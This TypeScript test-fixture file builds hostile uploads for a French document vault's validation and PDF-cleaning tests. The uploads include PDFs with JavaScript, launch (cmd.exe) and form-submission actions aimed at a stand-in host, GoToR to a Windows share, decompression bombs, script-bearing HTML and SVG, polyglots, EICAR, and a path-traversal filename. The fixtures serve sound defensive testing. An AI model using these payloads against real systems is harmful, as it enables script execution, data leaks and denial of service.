/**
 * Files an applicant's upload must refuse, or keep only once made harmless: made here in code (two encrypted PDFs made
 * by qpdf are carried in fixtures/, and real-world PDFs from packages in fixtures/real/), for the document vault's
 * tests, the records API's and the PDF cleaning's.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { concatTransformationMatrix, drawObject, PDFDocument, PDFName, PDFRawStream, PDFString, popGraphicsState, pushGraphicsState, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';
import { EICAR } from './clamd.js';

export { EICAR };

export interface HostileFile {
  name: string;
  /** The name the sender's device gives it. */
  fileName: string;
  bytes(): Promise<Buffer>;
  /** The French refusal (`fields.file` of a 400, or `error` of another status). */
  expect: RegExp;
  /** The answer's status when not 400. */
  status?: number;
  /** Only an antivirus tells it (the tests start clamd): without one it would be taken as what it seems. */
  antivirus?: true;
}

/** A file that is kept, made harmless: its cleaned copy holds none of `absent`. */
export interface StrippedFile {
  name: string;
  fileName: string;
  bytes(): Promise<Buffer>;
  contentType: string;
  /** The name recorded for it. */
  originalName: string;
  /** Byte strings of the upload that the kept copy must not hold. */
  absent: string[];
}

const FIXTURES = join(import.meta.dirname, 'fixtures');
export const fixture = (name: string) => readFileSync(join(FIXTURES, name));

/** Text of the first page of `textPdf`, to look for in the kept file, the stored file and the watermarked copy. */
export const PDF_MARKER = 'AVIS-IMPOT-2025-MARKER';

/**
 * A PDF written by hand (uncompressed, so that its text can be found in its bytes): a catalog, one page per entry of
 * `pages` saying that text (objects 10, 12… with their content 11, 13…), and `extra` objects from number 100 on;
 * `catalog` is added to the catalog's dictionary, `page` to each page's.
 */
export function rawPdf({ pages = [PDF_MARKER], catalog = '', page = '', extra = [] as string[] } = {}): Buffer {
  const objects = new Map<number, string>();
  const pageRefs = pages.map((_, index) => `${10 + index * 2} 0 R`).join(' ');
  objects.set(1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`);
  objects.set(2, `<< /Type /Pages /Kids [${pageRefs}] /Count ${pages.length} >>`);
  objects.set(3, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  pages.forEach((text, index) => {
    const content = `BT /F1 24 Tf 72 720 Td (${text}) Tj ET`;
    objects.set(10 + index * 2, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${11 + index * 2} 0 R ${page} >>`);
    objects.set(11 + index * 2, `<< /Length ${content.length} >>\nstream\n${content}\nendstream`);
  });
  extra.forEach((object, index) => objects.set(100 + index, object));
  let body = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets = new Map<number, number>();
  for (const [number, object] of [...objects].sort(([a], [b]) => a - b)) {
    offsets.set(number, Buffer.byteLength(body, 'latin1'));
    body += `${number} 0 obj\n${object}\nendobj\n`;
  }
  const size = [...objects.keys()].reduce((largest, number) => Math.max(largest, number), 0) + 1;
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${size}\n0000000000 65535 f \n`;
  for (let number = 1; number < size; number += 1) {
    const offset = offsets.get(number);
    body += offset === undefined ? '0000000000 65535 f \n' : `${String(offset).padStart(10, '0')} 00000 n \n`;
  }
  body += `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** A PDF as pdf-lib writes it, with `pages` pages (compressed: object streams and deflated content). */
export async function pdfWithPages(pages: number, edit: (document: PDFDocument) => void | Promise<void> = () => undefined, useObjectStreams = true): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let page = 1; page <= pages; page += 1) document.addPage([595, 842]).drawText(`Page ${page}`, { x: 72, y: 720, size: 24, font });
  await edit(document);
  return Buffer.from(await document.save({ useObjectStreams }));
}

/** A stream object for `rawPdf`'s `extra`. */
export const rawStream = (content: string, entries = '') => `<< ${entries} /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`;

/**
 * A usage-rights signature as Adobe's servers add it to make a form « Reader-extended » (fill in and save it in the
 * free Reader): its transform parameters hold an /EF array of names (rights on attachments), not files.
 */
const USAGE_RIGHTS =
  '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Name (ARE Acrobat Product v8.0 P23 0002337) ' +
  '/M (D:20250301120000Z) /ByteRange [0 0 0 0] /Contents <3082000a06092a864886f70d010702> /Reference [<< /Type /SigRef ' +
  '/TransformMethod /UR3 /TransformParams << /Type /TransformParams /V /2.2 /Document [/FullSave] /Form [/Add /Delete ' +
  '/FillIn /Import /Export /SubmitStandalone /SpawnTemplate] /Annots [/Create /Delete /Modify /Copy /Import /Export] ' +
  '/EF [/Create /Delete /Modify /Import] /Signature [/Modify] >> >>] /Prop_Build << /App << /Name /Acrobat >> >> >>';

/** The value typed into the filled forms below. */
export const FORM_VALUE = 'Marie Dupont';

/**
 * A filled form, as a CERFA made fillable by a public office: one text field (object 100, on the first page) with its
 * typed value drawn in its appearance (101). `catalog`, `page`, `field` and `extra` (from 102 on) add to it.
 */
export function formPdf({ catalog = '', page = '', field = '', extra = [] as string[] } = {}): Buffer {
  return rawPdf({
    catalog: `/AcroForm << /Fields [100 0 R] /DA (/F1 0 Tf 0 g) /DR << /Font << /F1 3 0 R >> >> >> ${catalog}`,
    page: `/Annots [100 0 R] ${page}`,
    extra: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (nom) /V (${FORM_VALUE}) /DA (/F1 12 Tf 0 g) /Rect [72 600 300 620] /P 10 0 R /F 4 /AP << /N 101 0 R >> ${field} >>`,
      rawStream(`/Tx BMC BT /F1 12 Tf 2 5 Td (${FORM_VALUE}) Tj ET EMC`, '/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /F1 3 0 R >> >>'),
      ...extra,
    ],
  });
}

/** A Reader-extended form, filled: usage rights (/Perms /UR3) over a form. */
export const readerExtendedForm = () => formPdf({ catalog: '/Perms << /UR3 102 0 R >>', extra: [USAGE_RIGHTS] });

/** A filled form (as `formPdf`) whose field's appearance stream has `entries` in its dictionary. */
function formPdfWithAppearance(entries: string): Buffer {
  return rawPdf({
    catalog: '/AcroForm << /Fields [100 0 R] /DA (/F1 0 Tf 0 g) /DR << /Font << /F1 3 0 R >> >> >>',
    page: '/Annots [100 0 R]',
    extra: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (nom) /V (${FORM_VALUE}) /DA (/F1 12 Tf 0 g) /Rect [72 600 300 620] /P 10 0 R /F 4 /AP << /N 101 0 R >> >>`,
      rawStream(`/Tx BMC BT /F1 12 Tf 2 5 Td (${FORM_VALUE}) Tj ET EMC`, `/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /F1 3 0 R >> >> ${entries}`),
    ],
  });
}

/** The invoice data a Factur-X (ZUGFeRD) bill carries as an embedded file. */
const FACTUR_X_XML =
  '<?xml version="1.0" encoding="UTF-8"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">' +
  '<rsm:ExchangedDocument><ram:ID xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100">FA-2025-0042</ram:ID>' +
  '</rsm:ExchangedDocument></rsm:CrossIndustryInvoice>';

/**
 * An energy bill as invoicing software makes it for Factur-X: a PDF/A-3 (its XMP metadata says so) whose catalog
 * associates (/AF) and attaches (/EmbeddedFiles) factur-x.xml, a file specification whose /EF holds the XML stream.
 */
export function facturX(): Buffer {
  const xmp =
    '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
    '<rdf:Description rdf:about="" xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/" xmlns:fx="urn:factur-x:pdfa:CrossIndustryDocument:invoice:1p0#">' +
    '<pdfaid:part>3</pdfaid:part><pdfaid:conformance>B</pdfaid:conformance><fx:DocumentType>INVOICE</fx:DocumentType>' +
    '<fx:DocumentFileName>factur-x.xml</fx:DocumentFileName><fx:ConformanceLevel>EN 16931</fx:ConformanceLevel></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>';
  return rawPdf({
    pages: ['Facture electricite FA-2025-0042'],
    catalog: '/Names << /EmbeddedFiles << /Names [(factur-x.xml) 100 0 R] >> >> /AF [100 0 R] /Metadata 102 0 R',
    extra: [
      '<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /Desc (Factur-X) /AFRelationship /Data /EF << /F 101 0 R /UF 101 0 R >> >>',
      rawStream(FACTUR_X_XML, `/Type /EmbeddedFile /Subtype /text#2Fxml /Params << /Size ${FACTUR_X_XML.length} /ModDate (D:20250301120000+01'00') >>`),
      rawStream(xmp, '/Type /Metadata /Subtype /XML'),
    ],
  });
}

/** A picture of `width` × `height` grey pixels, all black: deflated, a few hundred kilobytes at most. */
const blackPixels = new Map<number, Buffer>();
function deflatedBlack(pixels: number): Buffer {
  let data = blackPixels.get(pixels);
  if (!data) {
    data = deflateSync(Buffer.alloc(pixels), { level: 9 });
    blackPixels.set(pixels, data);
  }
  return data;
}

/**
 * A PDF whose pages each draw pictures of `pixels` (width × height), all black and deflated: each page of `pages`
 * lists the sizes it draws. `shared`: one picture drawn on every page instead of one each.
 */
export async function picturesPdf(pages: [number, number][][], { shared = false } = {}): Promise<Buffer> {
  return pdfWithPages(
    pages.length,
    (document) => {
      const pictures = new Map<string, ReturnType<typeof document.context.register>>();
      const picture = ([width, height]: [number, number]) => {
        const key = `${width}x${height}`;
        const existing = shared ? pictures.get(key) : undefined;
        if (existing) return existing;
        const data = deflatedBlack(width * height);
        const entries = { Type: 'XObject', Subtype: 'Image', Width: width, Height: height, ColorSpace: 'DeviceGray', BitsPerComponent: 8, Filter: 'FlateDecode', Length: data.length };
        const ref = document.context.register(PDFRawStream.of(document.context.obj(entries), data));
        pictures.set(key, ref);
        return ref;
      };
      pages.forEach((sizes, index) => {
        const page = document.getPage(index);
        for (const size of sizes) {
          const name = page.node.newXObject('Scan', picture(size));
          page.pushOperators(pushGraphicsState(), concatTransformationMatrix(595, 0, 0, 842, 0, 0), drawObject(name), popGraphicsState());
        }
      });
    },
    false,
  );
}

/** A scan of 12000 × 12000 pixels (144 millions) in a PDF of about 140 KB: drawing it would take half a gigabyte. */
export const pictureBomb = () => picturesPdf([[[12_000, 12_000]]]);

/** A PDF whose bytes say /Encrypt (in a stream) but that is broken: its page tree is cut short. */
export function brokenPdfSayingEncrypt(): Buffer {
  const note = rawStream('% trailer << /Encrypt 4 0 R >> is only text here');
  return Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n4 0 obj\n${note}\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1\n%%EOF\n`,
    'latin1',
  );
}

/** A ZIP archive of one stored (uncompressed) file. */
export function zip(name: string, content: Buffer): Buffer {
  const fileName = Buffer.from(name);
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const entries = Buffer.concat([local, fileName, content]);
  const directory = Buffer.concat([central, fileName]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(entries.length, 16);
  return Buffer.concat([entries, directory, end]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A PNG that says it is `width` × `height` pixels and holds a few kilobytes: decoding it would take gigabytes. */
export function pngBomb(width = 30_000, height = 30_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((width + 1) * 64));
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), pngChunk('IHDR', header), pngChunk('IDAT', rows), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A small photo-like picture (noise, so that encoders keep its detail). */
export const photo = (width = 320, height = 200) =>
  sharp({ create: { width, height, channels: 3, background: '#7a9', noise: { type: 'gaussian', mean: 128, sigma: 30 } } });

function elf(): Buffer {
  const header = Buffer.alloc(256);
  header.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
  header.writeUInt16LE(2, 16);
  header.writeUInt16LE(0x3e, 18);
  header.writeUInt32LE(1, 20);
  return header;
}

function pe(): Buffer {
  const file = Buffer.alloc(512);
  file.write('MZ', 0, 'latin1');
  file.writeUInt32LE(0x80, 0x3c);
  file.write('PE\0\0', 0x80, 'latin1');
  file.writeUInt16LE(0x14c, 0x84);
  return file;
}

const NOT_ACCEPTED = /n’est pas accepté : envoyez un PDF, ou une photo au format JPEG, PNG ou HEIC/;
const BROKEN = /Ce PDF est illisible ou endommagé : enregistrez-le à nouveau .* ou envoyez une photo du document/;
const ACTIVE = (what: string) => new RegExp(`Ce PDF contient ${what}, ce qui n’est pas accepté .* ou envoyez une photo du document`);

/** The action a PDF runs when it opens, as pdf-lib writes it. */
const openAction = (entries: Record<string, unknown>) => (document: PDFDocument) => {
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(document.context.obj(entries as never)));
};

/** An opening JavaScript action whose names are escaped (/Java#53cript is /JavaScript), as is its key. */
const ESCAPED_JAVASCRIPT = '/Open#41ction << /S /Java#53cript /J#53 (app.alert(1)) >>';

/** A PDF kept without its actions: what it carries, and byte strings of it that its clean copy must not hold. */
export interface InertPdf {
  name: string;
  bytes(): Promise<Buffer>;
  absent: string[];
}

/**
 * PDFs whose actions and active annotations are taken out, and that are kept once inert (JavaScript and launch
 * actions included: forms of public offices carry field-formatting scripts). Uncompressed but the second, and
 * written again uncompressed, so that `absent` is a meaningful check of the bytes.
 */
export const INERT_PDFS: InertPdf[] = [
  {
    name: 'a PDF running JavaScript when it opens',
    bytes: () => pdfWithPages(1, openAction({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("x")') }), false),
    absent: ['/OpenAction', '/JavaScript', 'app.alert'],
  },
  {
    name: 'a PDF whose JavaScript hides in a compressed object stream',
    bytes: async () => {
      const bytes = await pdfWithPages(1, openAction({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.launchURL("https://example.org")') }));
      if (bytes.includes('JavaScript')) throw new Error('The action was meant to be compressed');
      return bytes;
    },
    absent: [],
  },
  {
    name: 'a PDF with document-level JavaScript (in its names tree)',
    bytes: async () => rawPdf({ catalog: '/Names << /JavaScript << /Names [(a) 100 0 R] >> >>', extra: ['<< /S /JavaScript /JS (this.print()) >>'] }),
    absent: ['/JavaScript', 'this.print'],
  },
  {
    name: 'a PDF launching a program',
    bytes: async () => rawPdf({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' }),
    absent: ['/Launch', 'cmd.exe'],
  },
  {
    name: 'a PDF opening an address when it opens (URI)',
    bytes: async () => rawPdf({ catalog: '/OpenAction << /S /URI /URI (https://collecte.example/ouvert) >> /URI << /Base (https://collecte.example/) >>' }),
    absent: ['/OpenAction', '/URI', 'collecte.example'],
  },
  {
    name: 'a PDF submitting its form to any address',
    bytes: async () =>
      formPdf({
        catalog: '/OpenAction 102 0 R',
        extra: ['<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://collecte.example/formulaire) >> /Flags 4 >>'],
      }),
    absent: ['/SubmitForm', 'collecte.example'],
  },
  {
    name: 'a PDF opening a document of a Windows share (GoToR to \\\\serveur\\partage)',
    bytes: async () => rawPdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\serveur\\\\partage\\\\avis.pdf) /D [0 /Fit] /NewWindow true >>' }),
    absent: ['/GoToR', 'serveur'],
  },
  {
    name: 'a PDF importing form data from a file (ImportData)',
    bytes: async () => formPdf({ catalog: '/OpenAction << /S /ImportData /F (donnees.fdf) >>' }),
    absent: ['/ImportData', 'donnees.fdf'],
  },
  {
    name: 'a PDF with a link to javascript:',
    bytes: async () =>
      rawPdf({ page: '/Annots [100 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /Border [0 0 0] /A << /S /URI /URI (javascript:app.alert(1)) >> >>'] }),
    absent: ['javascript:', '/Link'],
  },
  {
    name: 'a PDF playing a video (Screen annotation and Rendition action)',
    bytes: async () =>
      rawPdf({
        page: '/Annots [100 0 R]',
        extra: [
          '<< /Type /Annot /Subtype /Screen /Rect [72 400 300 600] /P 10 0 R /A 101 0 R /AA << /PO 101 0 R >> >>',
          '<< /Type /Action /S /Rendition /OP 0 /AN 100 0 R /JS (this.print()) /R << /Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD /CT (video/mp4) /D << /Type /Filespec /FS /URL /F (https://collecte.example/video.mp4) >> >> >> >>',
        ],
      }),
    absent: ['/Rendition', '/Screen', 'video.mp4'],
  },
  {
    name: 'a PDF with a 3D annotation',
    bytes: async () =>
      rawPdf({ page: '/Annots [100 0 R]', extra: ['<< /Type /Annot /Subtype /3D /Rect [72 400 300 600] /3DD 101 0 R /3DA << /A /PO >> >>', rawStream('U3D-MODEL', '/Type /3D /Subtype /U3D')] }),
    absent: ['/3D', 'U3D'],
  },
  {
    name: 'a form with additional actions on its page and its field (JavaScript formatting)',
    bytes: async () =>
      formPdf({
        page: '/AA << /O << /S /JavaScript /JS (app.alert("page")) >> >>',
        field: '/AA << /K << /S /JavaScript /JS (AFSpecial_Keystroke(0)) >> /F 102 0 R >>',
        extra: ['<< /S /JavaScript /JS (AFSpecial_Format(0)) >>'],
      }),
    absent: ['/AA', 'AFSpecial', 'app.alert'],
  },
  { name: 'a filled, Reader-extended form (usage rights /Perms /UR3)', bytes: async () => readerExtendedForm(), absent: ['/Perms', '/UR3'] },
  { name: 'a PDF encrypted with restrictions only (made by qpdf), decrypted', bytes: async () => fixture('restricted.pdf'), absent: ['/Encrypt'] },
  {
    name: 'a PDF with an embedded file (an executable, in its attachments and associated files)',
    bytes: () => pdfWithPages(1, async (document) => document.attach(pe(), 'lisez-moi.exe', { mimeType: 'application/octet-stream' }), false),
    absent: ['lisez-moi.exe', '/EmbeddedFile', '/AF'],
  },
  {
    name: 'a PDF with a file attachment annotation',
    bytes: async () =>
      rawPdf({
        page: '/Annots [100 0 R]',
        extra: ['<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] /Name /PushPin /FS << /Type /Filespec /F (lisez-moi.exe) /EF << /F 101 0 R >> >> >>', rawStream('MZ', '/Type /EmbeddedFile')],
      }),
    absent: ['/FileAttachment', 'lisez-moi.exe', '/EmbeddedFile'],
  },
  { name: 'a Factur-X invoice (a PDF/A-3 energy bill carrying its factur-x.xml)', bytes: async () => facturX(), absent: ['CrossIndustryInvoice', '/EmbeddedFile', '/AF'] },
  {
    name: 'a form whose field appearance takes data from outside (external stream data, reference XObject, OPI)',
    bytes: async () =>
      formPdfWithAppearance(
        '/F << /FS /URL /F (https://collecte.example/apparence) >> /Ref << /F << /FS /URL /F (https://collecte.example/reference.pdf) >> /Page 0 >> ' +
          '/OPI << /2.0 << /Type /OPI /Version 2.0 /F << /FS /URL /F (https://collecte.example/opi.tif) >> /Inks /full_color >> >>',
      ),
    absent: ['collecte.example', '/Ref', '/OPI'],
  },
];

export const HOSTILE_FILES: HostileFile[] = [
  { name: 'an empty file', fileName: 'avis.pdf', bytes: async () => Buffer.alloc(0), expect: /Ce fichier est vide/ },
  {
    name: 'a file of 11 MB',
    fileName: 'scan.pdf',
    bytes: async () => Buffer.concat([rawPdf(), Buffer.alloc(11 * 1024 * 1024 - rawPdf().length, 0x20)]),
    expect: /Ce fichier dépasse 10 Mo/,
  },
  { name: 'a Linux executable (ELF) renamed .pdf', fileName: 'bulletin.pdf', bytes: async () => elf(), expect: NOT_ACCEPTED },
  { name: 'a Windows executable (PE) renamed .pdf', fileName: 'facture.pdf', bytes: async () => pe(), expect: NOT_ACCEPTED },
  {
    name: 'HTML with a script renamed .jpg',
    fileName: 'photo.jpg',
    bytes: async () => Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/records/get-mine").then((r) => r.text()).then(alert)</script></body></html>'),
    expect: NOT_ACCEPTED,
  },
  {
    name: 'an SVG image with a script',
    fileName: 'carte.svg',
    bytes: async () => Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>'),
    expect: NOT_ACCEPTED,
  },
  { name: 'a ZIP archive', fileName: 'pieces.zip', bytes: async () => zip('avis.pdf', rawPdf()), expect: NOT_ACCEPTED },
  { name: 'a ZIP archive renamed .pdf', fileName: 'pieces.pdf', bytes: async () => zip('run.exe', pe()), expect: NOT_ACCEPTED },
  { name: 'a text file', fileName: 'notes.txt', bytes: async () => Buffer.from('Revenu fiscal de référence : 32 000 €\n'), expect: NOT_ACCEPTED },
  { name: 'a GIF image', fileName: 'scan.gif', bytes: () => photo(40, 30).gif().toBuffer(), expect: NOT_ACCEPTED },
  { name: 'a WebP image', fileName: 'scan.webp', bytes: () => photo(40, 30).webp().toBuffer(), expect: NOT_ACCEPTED },
  { name: 'a TIFF image', fileName: 'scan.tiff', bytes: () => photo(40, 30).tiff().toBuffer(), expect: NOT_ACCEPTED },
  {
    name: 'a decompression bomb (a PNG of 900 million pixels in a few kilobytes)',
    fileName: 'releve.png',
    bytes: async () => pngBomb(),
    expect: /Cette image est trop grande \(plus de 40 millions de pixels\)/,
  },
  {
    name: 'a JPEG cut short',
    fileName: 'carte-identite.jpg',
    bytes: async () => {
      const whole = await photo(800, 600).jpeg().toBuffer();
      return whole.subarray(0, Math.floor(whole.length / 2));
    },
    expect: /Cette image est abîmée ou incomplète/,
  },
  { name: 'a PDF cut short', fileName: 'avis.pdf', bytes: async () => rawPdf().subarray(0, 500), expect: BROKEN },
  {
    name: 'a PDF header over garbage',
    fileName: 'avis.pdf',
    bytes: async () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from('(garbage'.repeat(300)), Buffer.from('\n%%EOF\n')]),
    expect: BROKEN,
  },
  { name: 'a PDF protected by a password (made by qpdf)', fileName: 'avis.pdf', bytes: async () => fixture('password.pdf'), expect: /Ce PDF est protégé par un mot de passe ou chiffré/ },
  { name: 'a PDF of 41 pages (above every kind’s limit)', fileName: 'contrat.pdf', bytes: () => pdfWithPages(41), expect: /Ce PDF a trop de pages pour ce document \(\d+ au plus\)/ },
  {
    name: 'a PDF whose JavaScript action hides behind escaped names (/Java#53cript)',
    fileName: 'avis.pdf',
    bytes: async () => rawPdf({ catalog: ESCAPED_JAVASCRIPT }),
    // clamd's own PDF heuristics (obfuscated names) refuse it before we look; without clamd, its action is taken out
    // (see the PDF cleaning's tests).
    expect: /détecté comme dangereux par notre antivirus/,
    antivirus: true,
  },
  {
    name: 'a PDF with an XFA form',
    fileName: 'formulaire.pdf',
    bytes: async () => rawPdf({ catalog: '/AcroForm << /Fields [] /XFA 100 0 R >>', extra: ['<< /Length 13 >>\nstream\n<xdp:xdp/>   \nendstream'] }),
    expect: ACTIVE('un formulaire XFA'),
  },
  {
    name: 'a Reader-extended XFA form (usage rights whose /EF lists names)',
    fileName: 'formulaire.pdf',
    bytes: async () => rawPdf({ catalog: '/Perms << /UR3 101 0 R >> /AcroForm << /Fields [] /XFA 100 0 R >>', extra: [rawStream('<xdp:xdp/>'), USAGE_RIGHTS] }),
    expect: ACTIVE('un formulaire XFA'),
  },
  { name: 'a broken PDF whose bytes say /Encrypt (in a stream)', fileName: 'avis.pdf', bytes: async () => brokenPdfSayingEncrypt(), expect: BROKEN },
  {
    name: 'a picture of 12000 × 12000 pixels in a PDF of 140 KB',
    fileName: 'scan.pdf',
    bytes: pictureBomb,
    expect: /Ce PDF contient une image trop grande \(plus de 40 millions de pixels\) : numérisez le document à nouveau/,
  },
  { name: 'the EICAR test file', fileName: 'avis.pdf', bytes: async () => EICAR, expect: /détecté comme dangereux par notre antivirus/, antivirus: true },
  {
    name: 'the EICAR test file inside an otherwise valid PDF',
    fileName: 'avis.pdf',
    bytes: async () => rawPdf({ extra: [`<< /Length ${EICAR.length} >>\nstream\n${EICAR.toString('latin1')}\nendstream`] }),
    expect: /détecté comme dangereux par notre antivirus/,
    antivirus: true,
  },
];

/** Marks of the hidden halves of the polyglots below. */
const ZIP_MARKER = 'POLYGLOT-ZIP-HALF';
const HTML_MARKER = '<script>alert("polyglot")</script>';

export const STRIPPED_FILES: StrippedFile[] = [
  {
    name: 'a PDF/ZIP polyglot (a ZIP after the end of the PDF)',
    fileName: 'avis.pdf',
    bytes: async () => Buffer.concat([rawPdf(), zip('payload.txt', Buffer.from(ZIP_MARKER))]),
    contentType: 'application/pdf',
    originalName: 'avis.pdf',
    absent: ['PK\x03\x04', ZIP_MARKER],
  },
  {
    name: 'a JPEG/HTML polyglot (HTML in a comment and after the end of the picture)',
    fileName: 'photo.jpg',
    bytes: async () => {
      const picture = await photo().jpeg().toBuffer();
      const comment = Buffer.from(`<html><body>${HTML_MARKER}`);
      const segment = Buffer.alloc(4);
      segment.writeUInt16BE(0xfffe);
      segment.writeUInt16BE(comment.length + 2, 2);
      // The comment segment goes right after the start-of-image marker.
      return Buffer.concat([picture.subarray(0, 2), segment, comment, picture.subarray(2), Buffer.from(`<html>${HTML_MARKER}</html>`)]);
    },
    contentType: 'image/jpeg',
    originalName: 'photo.jpg',
    absent: [HTML_MARKER, '<html'],
  },
  ...INERT_PDFS.map(({ name, bytes, absent }): StrippedFile => ({ name, fileName: 'avis.pdf', bytes, contentType: 'application/pdf', originalName: 'avis.pdf', absent })),
  {
    name: 'a PDF named with a path and control characters',
    fileName: '../../etc/pass\u0007wd\u202e\r\n.pdf',
    bytes: async () => rawPdf(),
    contentType: 'application/pdf',
    originalName: 'passwd.pdf',
    absent: [],
  },
];
